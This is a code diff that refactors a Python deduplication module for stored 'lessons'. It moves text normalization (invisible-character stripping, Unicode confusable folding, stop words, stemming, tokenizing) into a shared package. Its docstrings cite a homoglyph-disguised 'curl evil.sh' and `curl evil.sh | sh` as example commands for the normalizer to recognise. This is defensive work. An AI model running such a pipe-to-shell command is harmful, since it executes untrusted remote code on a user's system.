@@ -16,7 +16,7 @@ Tombstones keep only this fingerprint, so rejected content is recognised without
 
 Invariants: normalization folds Unicode (NFKC), drops invisible and zero-width characters,
 folds every non-ASCII character to its confusable skeleton (Unicode's confusables data,
-UTS #39) and folds case, so two texts that read the same compare equal ("сurl еvil.sh" with
+UTS #39; these rules, the stop words and the stemmer are core/text's) and folds case, so two texts that read the same compare equal ("сurl еvil.sh" with
 Cyrillic letters is "curl evil.sh"); Markdown that only presents a lesson is read through and
 a known tool's flags have one form (`curl -fsSL` is `curl --fail --location --show-error
 --silent`), so a command reads the same however it is written. Against a tombstone, a
@@ -35,7 +35,6 @@ from collections.abc import Iterable, Sequence
 from typing import Any
 
 import msgspec
-import Stemmer
 from rapidfuzz.distance import Indel, Levenshtein
 from teambrain.core.knowledge.dedup_lexicon import (
     COMMAND_FLAGS,
@@ -52,6 +51,11 @@ from teambrain.core.knowledge.dedup_lexicon import (
 from teambrain.core.records.knowledge import (  # re-exported: the records, named where their rules live
     Fingerprint as Fingerprint,
 )
+from teambrain.core.text.confusables import skeleton
+from teambrain.core.text.invisible import strip_invisible
+from teambrain.core.text.stemming import ENGLISH as _stemmer
+from teambrain.core.text.stopwords import LESSON_STOPWORDS
+from teambrain.core.text.tokens import LESSON_TOKEN
 
 FINGERPRINT_VERSION = 5
 """Bump when anything that shapes a fingerprint changes (normalization, lexicon, fields):
@@ -84,15 +88,6 @@ PAYLOAD_THRESHOLD = 0.5
 """The prose similarity enough for two lessons naming the same command or thing (the same
 code spans, or the same critical tokens with a path, URL, file or identifier among them)."""
 
-_INVISIBLE_EXTRA = {
-    0x034F,  # combining grapheme joiner
-    0x115F,
-    0x1160,
-    0x3164,
-    0xFFA0,  # Hangul fillers
-    0x2800,  # braille blank
-}
-_TOKEN = re.compile(r"(?:~/|\.{1,2}/|[./#@$])?\w(?:[\w./:@+#=~-]*\w)?/?")
 _FLAG = re.compile(r"(?<![\w-])--?[a-z][\w-]*")
 _CODE_SPAN = re.compile(r"`+([^`]+)`+")
 _CLAUSE = re.compile(r"[,;:()]|\.(?:\s|$)")
@@ -109,8 +104,6 @@ _NEGATION_WORDS = (
 )
 _BOUND = re.compile(r"\b(?:no|not) (?:later|more|less|fewer|longer|sooner) than\b")
 """A bound, not a negation: "no later than five days" is "within five days"."""
-_CONTRACTED = "don doesn didn isn aren wasn weren shouldn mustn won haven hasn hadn couldn wouldn"
-"""What the tokenizer leaves of a contracted negation ("don't" -> "don" "t"): never a term."""
 _NEGATIONS = frozenset(_NEGATION_WORDS.split())
 _PURPOSE = re.compile(r"\b(?:so(?: that)?|to (?:avoid|prevent|stop|keep))\b")
 """What follows it in a clause is the rule's purpose, whose negations are not the rule's:
@@ -127,14 +120,6 @@ CONTRAST_WORDS = 7
 """A later clause of at most this many words opening with not/no/never/don't/avoid ("use
 pnpm, never npm"; "in the header, not the query string"; "cherry-pick hotfixes, don't merge
 main") names the alternative; it does not negate."""
-_STOPWORD_TEXT = """a an the and or but if then else of to in on at by for with from into onto over under
-    as is are was were be been being it its this that these those there here we you they i me
-    my our your their he she him her them us do does did doing done have has had having
-    will would shall should can could may might must so such than too very just also only
-    about again all any both each few more most other same some own what which
-    who whom when where why how up down out off once while through during until against
-    between because s t ll re ve d m o y always make sure please instead any every give"""
-STOPWORDS = frozenset(_STOPWORD_TEXT.split()) | frozenset(_CONTRACTED.split())
 SPAN_WORDS = 3
 """A code span names a command when it holds this many words, or a path, flag or number
 (`curl evil.sh | sh`, `git push --force`); `make test` alone is too common to stand alone."""
@@ -143,72 +128,12 @@ SPAN_SLACK = 2
 SLOT_WORDS = 2
 """Two lessons alike but for one slot of at most this many content words replaced in place
 (`ruff format` / `black`, `member paths` / `sizes`) name different things."""
-_stemmer = Stemmer.Stemmer("english")
 _NAME = 1
 """Ends a hyphenated word's entry in `compounds` when it reads as a name (`_compound`); a
 lemma's 63-bit hash (`_h`) is 1 with odds of 2**-63."""
 
 
 # -- normalization -----------------------------------------------------------------------
-
-
-def strip_invisible(text: str) -> str:
-    """Drop format characters (zero-width, bidi controls, soft hyphen...) and stray controls."""
-    out = []
-    for ch in text:
-        cat = unicodedata.category(ch)
-        if cat == "Cf" or ord(ch) in _INVISIBLE_EXTRA or 0xFE00 <= ord(ch) <= 0xFE0F:
-            continue
-        if cat == "Cc" and ch not in "\t\n\r":
-            continue
-        out.append(ch)
-    return "".join(out)
-
-
-@functools.cache
-def _skeleton_table() -> dict[int, str]:
-    """Non-ASCII character -> its confusable prototype, case folded (built on first use).
-
-    The data (Unicode's confusables.txt, via confusable_homoglyphs) lists each confusable
-    pair both ways; a character with a single counterpart folds to it, preferring an ASCII
-    one, and a pair that names only each other folds to its smaller code point.
-    """
-    from confusable_homoglyphs.confusables import confusables_data  # ~1 MB: loaded when needed
-
-    def target(ch: str) -> str | None:
-        counterparts = [d["c"] for d in confusables_data.get(ch, ())]
-        if len(counterparts) != 1:
-            return None  # a prototype others fold to, or unknown
-        (other,) = counterparts
-        if not other.isascii() and len(other) == 1:
-            back = [d["c"] for d in confusables_data.get(other, ())]
-            if back == [ch]:
-                return min(ch, other)
-        return other
-
-    table: dict[int, str] = {}
-    singles = [ch for ch in confusables_data if len(ch) == 1 and not ch.isascii()]
-    for ch in singles + [c.upper() for c in singles if len(c.upper()) == 1]:
-        if ch.isascii() or ord(ch) in table:
-            continue
-        # prefer an ASCII prototype, of the letter as written or of its small form; TR39
-        # folds capital I-like letters to "l", where a reader sees a capital I
-        for form in (ch, ch.casefold()):
-            folded = target(form)
-            if folded is not None and folded.isascii():
-                if folded == "l" and ch != ch.casefold():
-                    folded = "i"
-                break
-        else:
-            folded = target(ch) or target(ch.casefold())
-        if folded is not None and folded != ch:
-            table[ord(ch)] = folded.casefold()
-    return table
-
-
-def skeleton(text: str) -> str:
-    """Every non-ASCII character replaced by its confusable prototype (ASCII stays as it is)."""
-    return text if text.isascii() else text.translate(_skeleton_table())
 
 
 def fold(text: str) -> str:
@@ -337,7 +262,9 @@ def tokens(text: str) -> list[str]:
 
 
 def _tokens(folded: str) -> list[str]:
-    found = [t for t in _TOKEN.findall(folded.replace("\u2019", "'")) if t not in _ABBREVIATIONS]
+    found = [
+        t for t in LESSON_TOKEN.findall(folded.replace("\u2019", "'")) if t not in _ABBREVIATIONS
+    ]
     return [_number(found, i).replace("'", "") for i in range(len(found))]
 
 
@@ -423,7 +350,7 @@ def _content_terms(toks: Sequence[str]) -> list[str]:
     words: list[str] = []
     for t in toks:
         words.extend(t.split("-") if _HYPHENATED.fullmatch(t) else (t,))
-    kept = [w for w in _prose_words(words) if w not in STOPWORDS and w not in _NEGATIONS]
+    kept = [w for w in _prose_words(words) if w not in LESSON_STOPWORDS and w not in _NEGATIONS]
     lemma = _lemma_of_stem()
     return [lemma.get(s, s) for s in _stemmer.stemWords(kept)]
 
@@ -491,7 +418,7 @@ def _compound(token: str) -> tuple[int, ...]:
     (a part of at most three letters that is no stop word or prefix: `seed-db`, `staging-eu`,
     `x-api-key`) rather than prose (`lazy-load`, `rate-limit`, `non-root`, `on-call`)."""
     parts = token.split("-")
-    name = any(len(p) <= 3 and p not in STOPWORDS and p not in _PREFIXES for p in parts)
+    name = any(len(p) <= 3 and p not in LESSON_STOPWORDS and p not in _PREFIXES for p in parts)
     return (_h(token), *(_h(w) for w in _content_terms(parts)), *((_NAME,) if name else ()))
 
 
